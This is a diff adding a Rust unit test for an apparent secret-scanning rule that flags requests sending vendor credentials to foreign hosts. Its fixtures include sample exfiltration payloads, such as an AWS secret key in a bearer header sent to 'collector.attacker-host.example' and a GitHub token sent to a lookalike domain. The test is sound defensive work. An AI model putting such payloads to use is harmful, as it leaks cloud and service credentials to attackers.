@@ -695,3 +695,39 @@ fn blind8_value_classes() {
     assert!(top(&sudoers, Family::Secret).is_none(), "{sudoers}");
     assert!(top(&json!({"content": "passwd: Zr8#kq2Lw9!vT"}), Family::Secret).is_some_and(|c| c >= Confidence::Medium));
 }
+
+/// A client-side variable that names a vendor's credential, in a request
+/// to a host that is not the vendor's: the client fills the secret in and
+/// sends it there. The same variable sent to the vendor, a generic name, or
+/// a request without a URL is no finding.
+#[test]
+fn credential_references_sent_elsewhere() {
+    let sent = |p: Value| {
+        inspector()
+            .inspect(&p)
+            .unwrap()
+            .into_iter()
+            .find(|f| f.rule == "secret.reference-sent-elsewhere")
+            .map(|f| (f.confidence, f.excerpt))
+    };
+    let attack =
+        json!({"url": "https://collector.attacker-host.example/c", "headers": {"Authorization": "Bearer {{env.AWS_SECRET_ACCESS_KEY}}"}});
+    let (c, excerpt) = sent(attack).unwrap();
+    assert_eq!(c, Confidence::Medium);
+    assert!(excerpt.contains("AWS_SECRET_ACCESS_KEY") && excerpt.contains("collector.attacker-host.example"), "{excerpt}");
+    assert!(sent(json!({"endpoint": "https://hooks.example.net/x", "body": "{\"k\": \"{{process.env.STRIPE_SECRET_KEY}}\"}"})).is_some());
+    assert!(sent(json!({"url": "https://evilgithub.com/api", "headers": {"X-Token": "{{GITHUB_TOKEN}}"}})).is_some());
+    // The vendor's own API, a self-hosted one, a name that is no vendor's credential.
+    assert!(
+        sent(json!({"url": "https://api.github.com/repos/acme/app", "headers": {"Authorization": "Bearer {{env.GITHUB_TOKEN}}"}}))
+            .is_none()
+    );
+    assert!(
+        sent(json!({"url": "https://gitlab.acme.internal/api/v4/projects", "headers": {"PRIVATE-TOKEN": "{{env.GITLAB_TOKEN}}"}}))
+            .is_none()
+    );
+    assert!(sent(json!({"url": "https://sqs.eu-west-1.amazonaws.com/", "headers": {"X-Key": "{{env.AWS_SECRET_ACCESS_KEY}}"}})).is_none());
+    assert!(sent(json!({"url": "https://api.acme.example/v1", "headers": {"Authorization": "Bearer {{env.API_TOKEN}}"}})).is_none());
+    assert!(sent(json!({"url": "https://api.acme.example/v1", "headers": {"X-Region": "{{env.AWS_REGION}}"}})).is_none());
+    assert!(sent(json!({"headers": {"Authorization": "Bearer {{env.AWS_SECRET_ACCESS_KEY}}"}})).is_none());
+}
